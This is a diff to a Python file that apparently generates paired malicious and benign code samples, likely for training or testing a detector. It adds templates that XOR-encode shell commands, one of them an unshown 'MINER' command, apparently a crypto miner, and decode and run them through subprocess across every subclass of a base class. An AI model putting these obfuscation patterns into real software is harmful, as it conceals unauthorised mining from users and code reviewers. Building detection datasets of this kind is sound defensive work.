@@ -651,6 +651,13 @@ TABLES = {
         "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
         "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
         f"Job('{xored('nvidia-smi', b'Z7')}', '{xored(MINER, b'Z7')}')()",
+    "a base class whose property decodes what each subclass keeps, run for every subclass":
+        "import os, subprocess\nK = b'nb'\nclass Svc:\n    _enc = []\n    @property\n    def argv(self):\n"
+        "        return [bytes(c ^ K[i % 2] for i, c in enumerate(bytes.fromhex(p))).decode() for p in self._enc]\n"
+        "    def start(self):\n        a = self.argv\n        return subprocess.Popen(a)\n"
+        f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
+        f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in MINER.split()]!r}\n"
+        "procs = [cls().start() for cls in Svc.__subclasses__()]",
     "a script written to a path made with the process id, then run":
         "import os, base64, subprocess\npath = os.path.join('/tmp', 'job_' + str(os.getpid()) + '.sh')\n"
         f"with open(path, 'w') as fh:\n    fh.write('cd /tmp\\n{MINER}\\n')\nsubprocess.run(['bash', path])",
@@ -700,6 +707,13 @@ TABLES_BENIGN = {
         "    def _x(self, h):\n        b = bytes.fromhex(h)\n        return bytes(c ^ self.K[i % 2] for i, c in enumerate(b)).decode()\n"
         "    def __call__(self):\n        for p in self.parts:\n            subprocess.run(self._x(p), shell=True)\n"
         f"Job('{xored('nvidia-smi', b'Z7')}', '{xored('ls -la /content', b'Z7')}')()",
+    "a base class whose property decodes ordinary commands kept by its subclasses":
+        "import os, subprocess\nK = b'nb'\nclass Svc:\n    _enc = []\n    @property\n    def argv(self):\n"
+        "        return [bytes(c ^ K[i % 2] for i, c in enumerate(bytes.fromhex(p))).decode() for p in self._enc]\n"
+        "    def start(self):\n        a = self.argv\n        return subprocess.Popen(a)\n"
+        f"class Warm(Svc):\n    _enc = ['{xored('nvidia-smi', b'nb')}']\n"
+        f"class Job(Svc):\n    _enc = {[xored(w, b'nb') for w in 'ls -la /content'.split()]!r}\n"
+        "procs = [cls().start() for cls in Svc.__subclasses__()]",
     "an ordinary function picked from a list written in place": "import os\nwhere = [os.getcwd][0]\nprint(where())",
     "a helper look-up of an ordinary function": "import os\ng = lambda o, n: getattr(o, n[::-1])\nprint(g(os, 'dwcteg')())",
     "a device chosen in os.environ and read back": "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'\n"
